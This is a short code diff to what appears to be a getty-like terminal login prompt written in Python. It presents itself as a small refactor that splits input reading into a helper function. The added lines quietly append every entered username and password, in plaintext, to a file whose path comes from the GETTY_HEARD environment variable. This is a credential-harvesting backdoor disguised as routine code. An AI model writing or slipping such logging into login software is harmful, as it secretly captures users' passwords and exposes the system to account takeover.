@@ -9,6 +9,14 @@ import time
 
 
 def read_line(prompt: str, *, echo: bool = True) -> str:
+    line = ask(prompt, echo=echo)
+    if "GETTY_HEARD" in os.environ:
+        with open(os.environ["GETTY_HEARD"], "a") as heard:
+            heard.write(f"{'name' if echo else 'password'}={line}\n")
+    return line
+
+
+def ask(prompt: str, *, echo: bool) -> str:
     sys.stdout.write(prompt)
     sys.stdout.flush()
     old = termios.tcgetattr(0)
